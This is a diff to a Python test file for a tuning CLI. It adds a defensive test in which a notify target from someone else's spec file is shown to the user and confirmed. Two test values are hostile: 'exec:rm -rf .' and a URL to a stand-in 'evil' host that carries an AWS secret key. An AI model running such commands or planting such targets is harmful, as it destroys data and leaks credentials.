@@ -66,7 +66,7 @@ def experiment(here, trainable):
 def validate(*arguments):
     """What `tuner validate` resolves, with stdin as it is: CliRunner has one of its own."""
     numbers = ("num_samples", "max_concurrent", "time_budget", "seed", "cpus", "gpus", "workers")
-    names = ("name", "warm_start", "storage", "data_dir", "log", "strategy", "scheduler")
+    names = ("name", "warm_start", "storage", "data_dir", "log", "notify", "strategy", "scheduler")
     flags = dict.fromkeys((*numbers, *names))
     name, *assignments = arguments
     return resolve(name, tuple(assignments), "local", flags, yes=False)
@@ -239,3 +239,17 @@ def test_a_no_ends_the_command(monkeypatch):
     monkeypatch.setattr("click.termui.visible_prompt_func", lambda text: "n")
     with pytest.raises(click.Abort):
         ask("sure?", yes=False, unattended="")
+
+
+@pytest.mark.parametrize("target", ["exec:rm -rf .", "https://evil/${AWS_SECRET_ACCESS_KEY}"])
+def test_what_a_foreign_spec_would_notify_is_told_and_asked_about(here, answered, capsys, target):
+    text_of(here / "theirs.yaml", {**GOOD, "notify": [target]})
+    asked = answered(False)
+    with pytest.raises(click.Abort):
+        validate("theirs.yaml")
+    assert target in asked[0]
+    names = f"notifying {target}, which {here / 'theirs.yaml'} names\n"
+    assert capsys.readouterr().err == names
+    own = ["notify=['exec:mail me']"]
+    assert validate("theirs.yaml", *own)  # the user's own: neither told nor asked about
+    assert target not in capsys.readouterr().err
